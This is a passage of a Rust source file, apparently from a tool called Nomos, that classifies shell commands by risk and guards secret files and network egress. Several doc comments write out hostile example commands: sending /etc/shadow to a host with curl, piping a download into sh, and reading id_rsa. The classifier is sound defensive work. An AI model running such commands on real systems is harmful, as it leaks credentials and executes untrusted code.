//! The command classifier: parses a shell command with `brush-parser` as a
//! shell would (quotes, escapes, `;` `&&` `||` `|` `&`, subshells, `$( )`,
//! backticks, redirections, heredocs, `VAR=x` prefixes), walks every simple
//! command it contains, unwraps wrappers (`sudo`, `env`, `timeout`, `sh -c`,
//! `pct exec ID --`, …) and judges each program with [`rules`].
//!
//! The result is the strictest class of any segment. `read_only` needs every
//! segment to be a known inspection command with safe flags and no write
//! redirection; an unknown program is `config_mutation`; a program that
//! cannot be known statically (a variable, substitution or glob in command
//! position, `eval`, a decoded payload piped into a shell) is `destructive`.
//! A declared risk can only raise the result.

mod descriptors;
pub mod egress;
mod functions;
mod hosts;
mod jobs;
mod network;
mod options;
mod read_loops;
mod rules;
mod secret_paths;
mod sources;
pub mod tables;
mod words;
pub mod worst_case;

use std::borrow::Cow;

/// The memos' and sets' map: foldhash, seeded at random per process (no
/// input can be built to collide), several times faster than SipHash on
/// the short words the rules look up.
pub(crate) type Map<K, V> = std::collections::HashMap<K, V, foldhash::fast::RandomState>;
/// The set of [`Map`].
pub(crate) type Set<K> = std::collections::HashSet<K, foldhash::fast::RandomState>;
use std::io::BufReader;

use brush_parser::ast::{
    self, AndOr, Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList,
    ExtendedTestExpr, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline,
    ProcessSubstitutionKind, SimpleCommand,
};
use serde::Serialize;

use std::fmt;
use std::str::FromStr;

pub use hosts::Egress;
pub use network::{NetworkUse, UnknownNetworkUse};
use serde::Deserialize;
pub use words::Arg;

/// The secret files the classifier guards, as one list for everything
/// that guards them: the classifier asks a person before a command shows
/// one, and the confinement (`nomos-confine`) hides them on the target, by
/// the path the kernel resolved.
pub mod secrets {
    /// Folders whose every file is a secret (each ends with `/`).
    pub fn folders() -> &'static [&'static str] {
        crate::secret_paths::SECRET_DIRS
    }

    /// Whether reading the file at `path` (absolute, no glob) would show a
    /// secret: in a secret folder, or a secret by its name (`shadow`,
    /// `id_ed25519`, `*.key`, `.env`, …).
    pub fn is_secret_path(path: &str) -> bool {
        crate::secret_paths::secret_path(path)
    }
}

/// Commands longer than this are not parsed (and are `destructive`): no
/// operator types one, and parsing cost grows with size.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;
/// Deeper nesting of brackets, substitutions or `sh -c` is refused rather
/// than risking the parser's stack.
const MAX_NESTING: usize = 64;
const MAX_SCRIPT_DEPTH: usize = 8;
/// The deepest nesting of `for`/`while`/`until`/`if`/`case`/`select`
/// read: the parser's work grows fast with it (`for a do for a do …`
/// took 5 s at 200), and no command a person reviews nests a dozen.
const MAX_KEYWORD_NESTING: usize = 12;
/// The longest pipeline judged (each command's input is the commands
/// before it, which the rules read).
const MAX_PIPELINE: usize = 64;
/// The most `<<` read in one text.
const MAX_HEREDOCS: usize = 32;
/// The most commands (simple or compound, at every depth, substitutions
/// and `bash -c` texts included) judged one by one in one input. Past
/// it the whole input is destructive: no person reviews more, and the
/// classifier's work stays bounded (issue 29, class 12).
pub const MAX_COMMANDS: usize = 2_000;
/// The most words judged in one input, counting each time a loop judges
/// its body again (`for a in 1 2 … 8; do for b in …` multiplies them):
/// past it, the same as past [`MAX_COMMANDS`]. Commands people write
/// have tens of words; ten thousand is no command anyone reviews.
pub const MAX_WORDS_JUDGED: usize = 4_000;

/// How much a command can change. Ordered: a class can be raised, never
/// lowered (`max` of two classes is the stricter).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RiskClass {
    /// Changes nothing: status, logs, listings. Runs at once.
    ReadOnly,
    /// Changes state, reversibly: install, restart, edit config.
    ConfigMutation,
    /// Loses data or availability: rm, mkfs, destroy, stop, reboot, purge.
    Destructive,
}

impl RiskClass {
    pub fn as_str(self) -> &'static str {
        match self {
            RiskClass::ReadOnly => "read_only",
            RiskClass::ConfigMutation => "config_mutation",
            RiskClass::Destructive => "destructive",
        }
    }
}

impl fmt::Display for RiskClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("`{0}` is not a risk class; use read_only, config_mutation or destructive")]
pub struct UnknownRiskClass(pub String);

impl FromStr for RiskClass {
    type Err = UnknownRiskClass;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "read_only" => Ok(RiskClass::ReadOnly),
            "config_mutation" => Ok(RiskClass::ConfigMutation),
            "destructive" => Ok(RiskClass::Destructive),
            other => Err(UnknownRiskClass(other.to_string())),
        }
    }
}

#[cfg(feature = "clap")]
impl clap::ValueEnum for RiskClass {
    fn value_variants<'a>() -> &'a [Self] {
        &[
            RiskClass::ReadOnly,
            RiskClass::ConfigMutation,
            RiskClass::Destructive,
        ]
    }
    fn to_possible_value(&self) -> Option<clap::builder::PossibleValue> {
        Some(clap::builder::PossibleValue::new(self.as_str()))
    }
}

/// Stored as their words (`TEXT`) on any sqlx backend.
#[cfg(feature = "sqlx")]
mod stored {
    macro_rules! stored_as_word {
        ($ty:ty) => {
            impl<DB: sqlx::Database> sqlx::Type<DB> for $ty
            where
                String: sqlx::Type<DB>,
            {
                fn type_info() -> DB::TypeInfo {
                    <String as sqlx::Type<DB>>::type_info()
                }
                fn compatible(ty: &DB::TypeInfo) -> bool {
                    <String as sqlx::Type<DB>>::compatible(ty)
                }
            }

            impl<'q, DB: sqlx::Database> sqlx::Encode<'q, DB> for $ty
            where
                String: sqlx::Encode<'q, DB>,
            {
                fn encode_by_ref(
                    &self,
                    buf: &mut <DB as sqlx::Database>::ArgumentBuffer,
                ) -> Result<sqlx::encode::IsNull, sqlx::error::BoxDynError> {
                    <String as sqlx::Encode<'q, DB>>::encode(self.as_str().to_string(), buf)
                }
            }

            impl<'r, DB: sqlx::Database> sqlx::Decode<'r, DB> for $ty
            where
                String: sqlx::Decode<'r, DB>,
            {
                fn decode(
                    value: <DB as sqlx::Database>::ValueRef<'r>,
                ) -> Result<Self, sqlx::error::BoxDynError> {
                    let word = <String as sqlx::Decode<'r, DB>>::decode(value)?;
                    Ok(word.parse::<$ty>()?)
                }
            }
        };
    }

    stored_as_word!(super::RiskClass);
    stored_as_word!(super::NetworkUse);
}

/// What a command's output may hold, for the commands that use it (a
/// word that substitutes it, `curl -d "$(…)"`; a pipe into a sender).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Output {
    /// Nothing the rules know of.
    #[default]
    Plain,
    /// A secret: the command reads one and prints it.
    Secret,
    /// Anything, secrets among it: the command is not proven read-only.
    Unproven,
}

/// A class with the reason for it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Verdict {
    pub class: RiskClass,
    pub reason: String,
    /// What its output may hold (not shown: the reason says it).
    #[serde(skip)]
    pub output: Output,
}

impl Verdict {
    pub fn new(class: RiskClass, reason: impl Into<String>) -> Self {
        Verdict {
            class,
            reason: reason.into(),
            output: Output::Plain,
        }
    }
    /// The same verdict, its output marked as holding `output`.
    pub fn printing(self, output: Output) -> Self {
        Verdict { output, ..self }
    }
    pub fn read_only(reason: impl Into<String>) -> Self {
        Verdict::new(RiskClass::ReadOnly, reason)
    }
    pub fn mutation(reason: impl Into<String>) -> Self {
        Verdict::new(RiskClass::ConfigMutation, reason)
    }
    pub fn destructive(reason: impl Into<String>) -> Self {
        Verdict::new(RiskClass::Destructive, reason)
    }

    /// The stricter of the two; on a tie, `self`.
    pub fn max(self, other: Verdict) -> Verdict {
        if other.class > self.class {
            other
        } else {
            self
        }
    }

    fn prefixed(self, prefix: &str) -> Verdict {
        Verdict {
            class: self.class,
            reason: format!("{prefix}{}", self.reason),
            output: self.output,
        }
    }
}

/// One simple command of the input, with its own class.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Segment {
    pub command: String,
    pub class: RiskClass,
    pub reason: String,
    /// What its output may hold.
    #[serde(skip)]
    pub output: Output,
}

/// The classification of a whole command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Classification {
    pub class: RiskClass,
    pub reason: String,
    pub segments: Vec<Segment>,
    /// What of the network the programs it starts use: what a confined
    /// run may be given (see [`NetworkUse`]).
    pub network: NetworkUse,
}

/// The reason given when the classifier itself failed on a command.
pub const CLASSIFIER_FAILED: &str =
    "the classifier failed on this command (a bug in Nomos): judged destructive";

/// Classifies `command`. `declared` (the caller's own estimate) can raise
/// the result, never lower it.
pub fn classify(command: &str, declared: Option<RiskClass>) -> Classification {
    classify_with(command, declared, &Egress::loopback_only())
}

/// [`classify`], with the hosts read-only commands may reach beyond
/// loopback and the lab's private addresses ([`Egress`]).
pub fn classify_with(
    command: &str,
    declared: Option<RiskClass>,
    egress: &Egress,
) -> Classification {
    let mut walker = Walker::new(egress);
    walker.may_trace = may_trace(command);
    // (Quotes and escapes out, as bash joins a name: `VM""ID`, `V\MID`;
    // review 121.)
    walker.header_named = command.replace(['"', '\'', '\\'], "").contains("VMID");
    secret_paths::budget_patterns();
    words::forget_words();
    // A bug in a rule must never let a command through: a panic anywhere
    // in the walk (a slice cut inside a character, say) asks as
    // destructive, with what the walk had found before it.
    let walked = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        walker.script(command, 0);
    }));
    if walked.is_err() {
        walker.push(
            one_line(command),
            Verdict::destructive(CLASSIFIER_FAILED.to_string()),
        );
    }
    // (A harmless output name stops being one where the line pointed its
    // descriptor at a file: `ls 2< /etc/fstab > /dev/stderr`; review 90.)
    if let Some(why) = descriptors::reopened_for_writing(command) {
        walker.push(one_line(command), Verdict::destructive(why));
    }
    // (`cat f | sort > f`: the shell empties f before it is read; review
    // 92.)
    if let Some(why) = descriptors::truncates_what_it_reads(command) {
        walker.push(one_line(command), Verdict::destructive(why));
    }
    // The first of the strictest segments (formatted once, not all of
    // them: a hostile input has thousands).
    let overall = strictest(&walker.segments)
        .map(|s| Verdict::new(s.class, format!("{}: {}", s.command, s.reason)))
        .unwrap_or_else(|| Verdict::read_only("nothing to run"));
    // Where data would go is always on the card, even when another part
    // of the command decides the class (`curl https://… | sh`).
    let overall = walker
        .segments
        .iter()
        .filter(|s| s.reason.contains(egress::SENDS))
        .fold(overall, |v, s| {
            if v.reason.contains(&s.reason) {
                v
            } else {
                Verdict::new(
                    v.class,
                    format!("{}; also {}: {}", v.reason, s.command, s.reason),
                )
            }
        });
    let overall = match declared {
        Some(d) if d > overall.class => Verdict::new(
            d,
            format!("declared {d} by the caller (classified {})", overall.class),
        ),
        _ => overall,
    };
    Classification {
        class: overall.class,
        reason: overall.reason,
        segments: walker.segments,
        network: walker.network,
    }
}

/// Variables bash itself sets from text the command chose (`read`'s
/// `REPLY`, `mapfile`'s `MAPFILE`, `$_`, `[[ =~ ]]`'s `BASH_REMATCH`, the
/// command's own text in `BASH_EXECUTION_STRING`, `cd`'s `PWD`), or that
/// the session sets with blanks in them (`SSH_CONNECTION`): a blank may
/// be in them whatever names the text writes.
#[rustfmt::skip]
const SHELL_SET: &[&str] = &[
    "REPLY", "MAPFILE", "_", "BASH_REMATCH", "BASH_COMMAND", "BASH_EXECUTION_STRING",
    "BASH_ARGV", "BASH_ARGV0", "BASH_SOURCE", "BASH_ARGC", "FUNCNAME", "PWD", "OLDPWD",
    "DIRSTACK", "COPROC", "READLINE_LINE", "OPTARG", "COMP_LINE", "COMP_WORDS",
    "SSH_CONNECTION", "SSH_CLIENT", "SSH_ORIGINAL_COMMAND", "PIPESTATUS", "GROUPS",
];

/// Whether `text` uses one of `vars` (`$x`, `${x}`, `"$x"`).
fn mentions_any(vars: &[String], text: &str) -> bool {
    // (`${x}`, `${x:-}`, `${x^^}`, `${x@Q}`, `${x[0]}`, `$x`: the name and
    // then anything but more of a name.)
    let name_goes_on =
        |rest: &str| rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
    vars.iter().any(|v| {
        [format!("${{{v}"), format!("${v}")].iter().any(|start| {
            text.match_indices(start.as_str())
                .any(|(at, m)| !name_goes_on(&text[at + m.len()..]))
        })
    })
}

/// Whether a word starts with a tilde that names a folder the session
/// was in (`~-`, `~-1`, `~+2`, `~3`): bash's `OLDPWD` and `DIRSTACK`.
fn names_old_folder(raw: &str) -> bool {
    let Some(rest) = raw.strip_prefix('~') else {
        return false;
    };
    let rest = rest.strip_prefix('+').map_or(rest, |r| {
        if r.starts_with(|c: char| c.is_ascii_digit()) {
            r
        } else {
            "+"
        }
    });
    rest.starts_with('-') || rest.starts_with(|c: char| c.is_ascii_digit())
}

/// About how many commands and words `text` holds, counted without
/// parsing: the separators and pipes outside quotes (`;`, `|`, `&`,
/// newlines) and the substitutions (`$(`, backticks) outside single
/// quotes, give or take the pairs (`&&`, `;;`); and the blank-separated
/// words outside quotes.
fn rough_size(text: &str) -> (usize, usize) {
    let bytes = text.as_bytes();
    let (mut single, mut double) = (false, false);
    let mut count = 1;
    let mut words = 0;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        // A word starts after a blank outside quotes.
        if !single
            && !double
            && !b.is_ascii_whitespace()
            && (i == 0 || bytes[i - 1].is_ascii_whitespace())
        {
            words += 1;
        }
        match b {
            b'\\' if !single => i += 1,
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'`' if !single => count += 1,
            b'$' if !single && bytes.get(i + 1) == Some(&b'(') => count += 1,
            b';' | b'|' | b'&' | b'\n' if !single && !double => count += 1,
            _ => {}
        }
        i += 1;
    }
    (count, words)
}

/// The first segment of the highest class (as folding with
/// [`Verdict::max`] would pick it).
fn strictest(segments: &[Segment]) -> Option<&Segment> {
    let top = segments.iter().map(|s| s.class).max()?;
    segments.iter().find(|s| s.class == top)
}

/// Where a command's standard input comes from, for programs that run what
/// they read (`sh`, `python3 -`).
#[derive(Debug, Clone)]
pub(crate) enum Stdin<'a> {
    /// Whatever the session gives (nothing, over SSH).
    Inherited,
    /// The earlier commands of the same pipeline.
    Pipe(&'a [Command]),
    /// A heredoc or here-string whose text is known.
    Text(Cow<'a, str>),
    /// A file or a here-string only known at run time.
    Unknown,
}

pub(crate) struct Walker {
    segments: Vec<Segment>,
    egress: Egress,
    /// Variables set to text holding a command (`x='a[$(cmd)]'`): bash
    /// runs it when it evaluates the variable as arithmetic or a name.
    armed: Vec<String>,
    /// Loop variables whose every value is known and plain (`for vm in
    /// 100 101`, `for f in /etc/pve/lxc/*.conf`), innermost last.
    loops: Vec<(String, Arg)>,
    /// Loop variables whose values are all literal text (`for i in 1 2
    /// 3`): evaluating one evaluates no command text.
    plain_loops: Vec<String>,
    /// The most of the network any program it met uses.
    network: NetworkUse,
    /// The folders relative paths may be in.
    folders: crate::secret_paths::Folders,
    /// Variables set from a credential (`x=$DB_PASSWORD`): printing them
    /// prints it.
    tainted: Vec<String>,
    /// The segments that say a word names a credential or an inherited
    /// variable ([`Walker::expansion_effects`], [`Walker::environment_reads`]),
    /// by index, with the depth of the command the word is in: taken back
    /// where the word only authenticates a read
    /// ([`Walker::forget_authenticating_reads`]).
    credential_reads: Vec<(usize, usize)>,
    /// Whether the input may turn bash's trace on (`set -x`, `bash -x`,
    /// `SHELLOPTS`): then every expanded word is printed, credentials too.
    may_trace: bool,
    /// Whether the line names `VMID`, the header word of the guest lists
    /// taken for numbers: a name arithmetic evaluates in turn, which the
    /// line may have set to anything (`read VMID < f`, `printf -v VMID`,
    /// `VMID+=…`; reviews 119, 120).
    header_named: bool,
    /// Commands met so far ([`MAX_COMMANDS`]).
    commands: usize,
    /// Words of simple commands judged so far ([`MAX_WORDS_JUDGED`]).
    words: usize,
    /// Whether a budget ran out (and the verdict saying so is pushed).
    exhausted: bool,
    /// Whether a `wait` of the shell walked follows the list walked
    /// (`for h in a b; do ping -c1 $h & done; wait`): it waits for what
    /// the list starts in the background.
    waited: bool,
    /// Whether the command walked writes to a pipe a later command of a
    /// pipeline reads, which may close it first (`… | head -n1`).
    output_piped: bool,
    /// Every name written bare in the texts walked: the variables the
    /// command may set ([`words::bare_names_into`]).
    names: Set<String>,
    /// Loop variables whose values are fields of unquoted words (`for pid
    /// in $(pgrep x)`) that the body never sets: no blank in them.
    field_loops: Vec<String>,
    /// Loop variables whose values are the fields of one command's output
    /// that prints plain ones, with that substitution's text (`c`,
    /// `$(docker ps -q)`): a whole-word use reads as that output.
    field_words: Vec<(String, String)>,
    /// Variables the command has set by this point of the walk (`x=1`,
    /// `for x in`, `read x`, `export x=…`), in the shell walked: their
    /// values are the command's, not the environment's.
    bound: Vec<String>,
    /// A variable that steers where clients connect (a proxy, a server:
    /// [`rules::STEERING_ENVIRONMENT`]), set by this point of the walk in
    /// any way (`=`, `+=`, `read`, `printf -v`, `export`), whatever its
    /// value.
    steered: Option<String>,
    /// Whether what reaches the command being walked through a pipe was
    /// printed by a secret read earlier in its pipeline.
    piped_secret: bool,
    /// Whether the input of the command being judged is a file not known
    /// public (a group's or a shell's `< FILE`, a pipe from a printer of
    /// one): a line search in it picks credential lines.
    piped_private: bool,
    /// Whether a word of the command being judged (or of a wrapper it runs
    /// in) holds what a secret read printed (`curl https://x/$(cat
    /// /etc/shadow)`).
    argument_secret: bool,
    /// Variables set to what a secret read printed (`x=$(cat KEY)`): a
    /// word using one holds the secret.
    secret_vars: Vec<String>,
    /// Variables of the environment made readonly (`declare -r x`,
    /// `readonly x`): nothing sets them after, so they stay the
    /// environment's whatever the command seems to set (review 102).
    readonly: Vec<String>,
    /// Names a `declare -A` made associative arrays (set or not): bash
    /// refuses to make them indexed again (review 103).
    declared_associative: Vec<String>,
    /// Variables the command never set that it gave an attribute
    /// (`declare -t PVE_TICKET`): a bare `declare -t` lists them.
    attributed: Vec<String>,
    /// The environment the command walked is given by assignments before
    /// it (`GIT_OPTIONAL_LOCKS=0 git status`), for the rules that read it.
    pub(crate) prefix_env: Vec<(String, Option<String>)>,
    /// Variables set to what a file not known public printed (`x=$(cat
    /// /srv/app/config.py)`): a pipe from a word using one carries that
    /// file's lines (review 46).
    private_vars: Vec<String>,
    /// Whether the list walked is a `while`/`until` condition (a `read`
    /// there sets its names for the body).
    reading_condition: bool,
    /// A `trap` installed a handler: a DEBUG or ERR handler runs before or
    /// after every command and may set any variable, a loop's among them
    /// (thirty-eighth review).
    pub(crate) traps: bool,
    /// What the runner of this script gave it as input (`… | ssh pve2
    /// 'bash -s'`, `bash -c sh <<< TEXT`): a program of the script that
    /// reads the session's input as code reads this instead (review 90);
    /// the script it holds does not see it again.
    pub(crate) outer_input: Option<OuterInput>,
    /// Whether the script walked is read from the shell's input (`bash
    /// <<< TEXT`, `… | ssh h bash`): an `exec < X` there makes X the rest
    /// of the script (review 91).
    script_from_input: bool,
    /// Shell functions defined for sure by this point of the walk, in the
    /// shell walked, innermost last ([`functions::ShellFunction`]).
    functions: Vec<std::rc::Rc<functions::ShellFunction>>,
    /// Whether the next list walked is a shell's own (a script's, a
    /// subshell's), where a function it defines lasts to the shell's end:
    /// `Some(true)` when nothing in its text may undo one (`unset`, a
    /// command named by an expansion). Taken by the list.
    shell_list: Option<bool>,
    /// The functions whose bodies are being walked, innermost last.
    calling: Vec<String>,
    /// How many `exec < X` (no command) the walk has met.
    inputs_replaced: usize,
    /// Whether a shell around the one walked keeps no function: its
    /// traps (under `set -T`/`-E`) reach its subshells and substitutions
    /// (review 100).
    functions_barred: bool,
    /// Arrays whose elements the line set for sure and never sets again
    /// (`hosts=(pve1 pve2)`; `mapfile -t ids < <(qm list | awk …)`, a
    /// VMID list): a loop over `"${NAME[@]}"` is judged with them.
    arrays: Vec<(String, ArrayValues)>,
    /// Arrays the command made indexed by an element or a list assigned
    /// (`m[0]=1`, `m+=(1)`): `declare -A` cannot convert them.
    indexed: Vec<String>,
    /// Variables a `declare -i` (typeset, local) of the command made
    /// integers: each assignment to one is arithmetic.
    integers: Vec<String>,
    /// Arrays declared associative for sure (`declare -A m`), whose
    /// subscripts are keys, not arithmetic: `m[$k]=1` evaluates no name.
    associative: Vec<String>,
}

/// A runner's input, kept past the borrow of the command that gave it.
#[derive(Debug, Clone)]
pub(crate) enum OuterInput {
    /// Text known from the command line (a here-string, an `echo`'s).
    Text(String),
    /// A file, a program's output, or a transformed payload.
    Unknown,
}

impl OuterInput {
    /// What `stdin` gives a runner: `None` for the session's own input.
    pub(crate) fn of(stdin: &Stdin<'_>) -> Option<OuterInput> {
        match stdin {
            Stdin::Inherited => None,
            Stdin::Text(text) => Some(OuterInput::Text(text.to_string())),
            Stdin::Unknown => Some(OuterInput::Unknown),
            Stdin::Pipe(upstream) => {
                let literal = match upstream {
                    // (Or its lines, `printf '%s\n' pve1 FLUSHALL`: what a
                    // loop's body reads after the loop's `read`; review
                    // 119; printf reads no input, so what came before it is
                    // not passed on.)
                    [.., Command::Simple(feeder)]
                        if let Some(lines) = sources::literal_lines(&feeder.to_string()) =>
                    {
                        Some(lines.iter().map(|l| format!("{l}\n")).collect())
                    }
                    [.., Command::Simple(feeder)]
                        if !upstream
                            .iter()
                            .any(|c| rules::decodes_or_transforms(c).is_some()) =>
                    {
                        rules::literal_output(feeder)
                    }
                    _ => None,
                };
                Some(literal.map_or(OuterInput::Unknown, OuterInput::Text))
            }
        }
    }
}

impl Walker {
    fn new(egress: &Egress) -> Walker {
        Walker {
            segments: Vec::new(),
            egress: egress.clone(),
            armed: Vec::new(),
            loops: Vec::new(),
            plain_loops: Vec::new(),
            network: NetworkUse::None,
            folders: crate::secret_paths::Folders::home(),
            tainted: Vec::new(),
            credential_reads: Vec::new(),
            may_trace: false,
            header_named: false,
            commands: 0,
            words: 0,
            exhausted: false,
            waited: false,
            output_piped: false,
            names: Set::default(),
            field_loops: Vec::new(),
            field_words: Vec::new(),
            bound: Vec::new(),
            steered: None,
            piped_secret: false,
            piped_private: false,
            argument_secret: false,
            secret_vars: Vec::new(),
            readonly: Vec::new(),
            attributed: Vec::new(),
            declared_associative: Vec::new(),
            private_vars: Vec::new(),
            prefix_env: Vec::new(),
            reading_condition: false,
            traps: false,
            outer_input: None,
            script_from_input: false,
            functions: Vec::new(),
            shell_list: None,
            calling: Vec::new(),
            inputs_replaced: 0,
            functions_barred: false,
            associative: Vec::new(),
            arrays: Vec::new(),
            integers: Vec::new(),
            indexed: Vec::new(),
        }
    }

    /// Runs `f` with `stdin` as the input the shells it judges read (the
    /// runner's own when `stdin` is the session's): `… | ssh h 'bash -s'`,
    /// `bash -c sh <<< TEXT`, `{ bash; } < FILE` (reviews 90, 91).
    pub(crate) fn with_input<T>(
        &mut self,
        stdin: &Stdin<'_>,
        f: impl FnOnce(&mut Walker) -> T,
    ) -> T {
        let outer = OuterInput::of(stdin).or_else(|| self.outer_input.take());
        let kept = std::mem::replace(&mut self.outer_input, outer);
        let replaced = self.inputs_replaced;
        let out = f(self);
        // (An `exec < X` inside, a group's or a function's, is the shell's
        // input from then on; review 101.)
        if self.inputs_replaced == replaced {
            self.outer_input = kept;
        }
        out
    }

    /// A script read from the shell's input: judged with
    /// `script_from_input` set.
    fn script_read_from_input(&mut self, runner: &str, text: &str, depth: usize) -> Verdict {
        let kept = std::mem::replace(&mut self.script_from_input, true);
        let verdict = rules::sh_script(self, runner, text, depth);
        self.script_from_input = kept;
        verdict
    }

    /// `exec < X` with no command: X is the shell's input from now on, and
    /// where the shell reads its script from its input, the rest of it.
    fn input_replaced(&mut self, given: &Stdin<'_>, depth: usize) -> Verdict {
        self.inputs_replaced += 1;
        let input = OuterInput::of(given);
        let verdict = match (&input, self.script_from_input) {
            (Some(OuterInput::Text(text)), true) => {
                let text = text.clone();
                self.script_read_from_input("sh", &text, depth)
                    .prefixed("the shell reads its next commands from `exec`'s input: ")
            }
            (Some(OuterInput::Unknown), true) => Verdict::destructive(
                "the shell reads its next commands from `exec`'s input, a script only known at \
                 run time",
            ),
            _ => Verdict::read_only("`exec` only redirects"),
        };
        self.outer_input = input;
        verdict
    }

    /// Whether the variable `name` may hold a blank the command put there
    /// (so `$name` unquoted may be several words).
    fn may_hold_blank(&self, name: &str) -> bool {
        if self.names.contains("IFS") || SHELL_SET.contains(&name) {
            return true;
        }
        self.names.contains(name) && !self.field_loops.iter().any(|n| n == name)
    }

    /// Counts one more command; false once there are too many to judge
    /// (the first time, with the verdict that says so).
    fn within_budget(&mut self, commands: usize, words: usize) -> bool {
        self.commands += commands;
        self.words += words;
        let over = self.commands > MAX_COMMANDS || self.words > MAX_WORDS_JUDGED;
        if over && !self.exhausted {
            self.exhausted = true;
            self.push(
                "(the rest)".to_string(),
                Verdict::destructive(format!(
                    "more than {MAX_COMMANDS} commands or {MAX_WORDS_JUDGED} words to judge \
                     (loops count each time); too many to classify one by one"
                )),
            );
        }
        !over
    }

    fn push(&mut self, command: String, verdict: Verdict) {
        self.segments.push(Segment {
            command,
            class: verdict.class,
            reason: verdict.reason,
            output: verdict.output,
        });
    }

    /// Runs `f` as for a child shell: the values known of the caller's
    /// variables (a loop's, a constant's) are not its own, none being
    /// exported (`s=.pub; bash -c 'cat id_rsa$s'` reads `id_rsa`).
    pub(crate) fn in_child_shell<T>(&mut self, f: impl FnOnce(&mut Walker) -> T) -> T {
        let loops = std::mem::take(&mut self.loops);
        let plain = std::mem::take(&mut self.plain_loops);
        let fields = std::mem::take(&mut self.field_loops);
        let field_words = std::mem::take(&mut self.field_words);
        // (Nor its functions: `reboot() { uptime; }; bash -c reboot` runs
        // the program.)
        let functions = std::mem::take(&mut self.functions);
        // (Nor its arrays: no array is exported; review 99.)
        let arrays = std::mem::take(&mut self.arrays);
        let associative = std::mem::take(&mut self.associative);
        // (Nor is it inside the caller's function: `local` fails there.)
        let calling = std::mem::take(&mut self.calling);
        let out = f(self);
        self.calling = calling;
        self.loops = loops;
        self.plain_loops = plain;
        self.field_loops = fields;
        self.field_words = field_words;
        self.functions = functions;
        self.arrays = arrays;
        self.associative = associative;
        out
    }

    /// Parses and walks a script; returns the strictest verdict of what it
    /// contains (also pushed as segments).
    pub(crate) fn script(&mut self, text: &str, depth: usize) -> Verdict {
        // (A shell of its own: no `wait` here waits for its jobs.)
        let waited = std::mem::replace(&mut self.waited, false);
        let verdict = self.script_text(text, depth);
        self.waited = waited;
        verdict
    }

    fn script_text(&mut self, text: &str, depth: usize) -> Verdict {
        let shown = || one_line(text);
        if depth > MAX_SCRIPT_DEPTH {
            let v = Verdict::destructive("scripts nested too deeply to classify");
            self.push(shown(), v.clone());
            return v;
        }
        if text.len() > MAX_COMMAND_BYTES {
            let v = Verdict::destructive(format!(
                "longer than {MAX_COMMAND_BYTES} bytes; too long to classify"
            ));
            self.push(shown(), v.clone());
            return v;
        }
        // The pre-scans read the text as bash does after joining lines
        // (`whil\<newline>e` is `while`).
        let joined = words::joined_lines(text);
        let scanned = joined.as_ref();
        if nesting(scanned) > MAX_NESTING || keyword_nesting(scanned) > MAX_KEYWORD_NESTING {
            let v = Verdict::destructive("nested too deeply to classify");
            self.push(shown(), v.clone());
            return v;
        }
        // Before the parser, whose work grows with the commands: a text
        // with far more command separators than the budget is refused
        // whole (the walk would stop at the budget anyway).
        let (commands, words) = rough_size(text);
        // (Twice the words: a here-document's text counts here, not when
        // its command is judged.)
        if commands > MAX_COMMANDS || words > 2 * MAX_WORDS_JUDGED {
            let v = Verdict::destructive(format!(
                "more than {MAX_COMMANDS} commands or {MAX_WORDS_JUDGED} words; too many to classify one by one"
            ));
            self.push(shown(), v.clone());
            return v;
        }
        if let Some(why) = heredoc_ambiguity(text) {
            let v = Verdict::destructive(why);
            self.push(shown(), v.clone());
            return v;
        }
        words::bare_names_into(text, &mut self.names);
        let program = match parse(text) {
            Ok(program) => program,
            Err(e) => {
                let v = Verdict::destructive(format!("cannot be parsed as a shell command ({e})"));
                self.push(shown(), v.clone());
                return v;
            }
        };
        let start = self.segments.len();
        // What a substitution or a shell of its own sets stays there.
        let bound = self.bound.len();
        let functions = self.functions.len();
        // (A text that defines no function needs no scan, and bars none
        // in its parts, which define none either.)
        let defines = functions::may_define(text);
        let definable = defines && !self.functions_barred && functions::definable(text);
        let barred = self.functions_barred;
        self.functions_barred = barred || (defines && !definable);
        for list in &program.complete_commands {
            self.shell_list = Some(definable);
            self.list(list, depth);
        }
        self.functions_barred = barred;
        self.bound.truncate(bound);
        self.functions.truncate(functions);
        strictest(&self.segments[start..])
            .map(|s| Verdict::new(s.class, format!("`{}`: {}", s.command, s.reason)))
            .unwrap_or_else(|| Verdict::read_only("nothing to run"))
    }

    fn list(&mut self, list: &CompoundList, depth: usize) {
        let outer_wait = self.waited;
        let outer_constants = self.loops.len();
        let outer_associative = self.associative.len();
        let outer_arrays = self.arrays.len();
        let definable = self.shell_list.take() == Some(true);
        for (i, item) in list.0.iter().enumerate() {
            if definable && let Some(function) = functions::defined(item) {
                self.define(function);
                continue;
            }
            // In the background, a subshell: what it sets stays there.
            let background = matches!(item.1, ast::SeparatorOperator::Async);
            // And it may go on after the command ends (`sleep 1000 &`,
            // `(yes >/dev/null &)`), unless a `wait` of the same shell
            // after it waits for it (review 46).
            let waited = outer_wait || jobs::waited_for(&list.0[i + 1..]);
            self.waited = waited;
            if background && !waited {
                self.push(
                    format!("{} &", one_line(&item.0.to_string())),
                    Verdict::mutation(
                        "runs in the background, where it goes on after the command ends \
                         (a `wait` after it would wait for it)",
                    ),
                );
            }
            let outer = self.bound.len();
            let indexed_before = self.indexed.len();
            // (In the background, a subshell: a `wait` after it waits for
            // it, not for the jobs it starts; review 101.)
            if background {
                self.waited = false;
            }
            self.pipeline(&item.0.first, depth);
            // After `&&` or `||` a command may not run (`false && x=1`,
            // `true || x=1 && echo $x`): what it sets counts for none.
            let first = self.bound.len();
            for next in &item.0.additional {
                match next {
